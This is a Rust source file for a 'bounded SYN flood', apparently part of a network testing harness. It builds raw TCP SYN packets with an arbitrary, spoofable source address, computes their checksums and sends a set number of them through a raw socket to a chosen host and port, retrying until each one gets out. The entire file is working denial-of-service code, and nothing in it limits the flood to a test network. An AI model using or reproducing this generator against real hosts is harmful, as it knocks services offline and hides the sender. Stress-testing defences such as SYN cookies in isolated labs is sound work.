//! A bounded SYN flood with written-out packets.

use crate::packets::{SYN, tcp, v4};
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

/// So many SYNs from one source to one listener.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// Sender.
    pub source: Ipv4Addr,
    /// Listener.
    pub destination: Ipv4Addr,
    /// Its port.
    pub port: u16,
    /// How many; never more than that.
    pub syns: u32,
}

impl Flood {
    /// Sends them from the calling thread's namespace, each from another port.
    pub fn send(&self) {
        let socket = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).expect("a raw socket");
        let to = SocketAddr::new(IpAddr::V4(self.destination), 0);
        for n in 0..self.syns {
            let mut segment = tcp(self.port, SYN);
            segment[..2].copy_from_slice(&(1_024 + (n % 60_000) as u16).to_be_bytes());
            segment[4..8].copy_from_slice(&n.to_be_bytes());
            let checksum = self.checksum(&segment);
            segment[16..18].copy_from_slice(&checksum.to_be_bytes());
            let packet = v4(self.source, self.destination, 6, &[], 0, &segment);
            // The cable's queue is finite; a flood waits for nobody but must arrive whole to be counted.
            while sendto(&socket, &packet, SendFlags::empty(), &to).is_err() {
                std::thread::yield_now();
            }
        }
    }

    fn checksum(&self, segment: &[u8]) -> u16 {
        let mut pseudo = self.source.octets().to_vec();
        pseudo.extend(self.destination.octets());
        pseudo.extend([0, 6]);
        pseudo.extend((segment.len() as u16).to_be_bytes());
        pseudo.extend(segment);
        let sum: u32 =
            pseudo.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0))).sum();
        let folded = (sum & 0xffff) + (sum >> 16);
        !((folded & 0xffff) + (folded >> 16)) as u16
    }
}
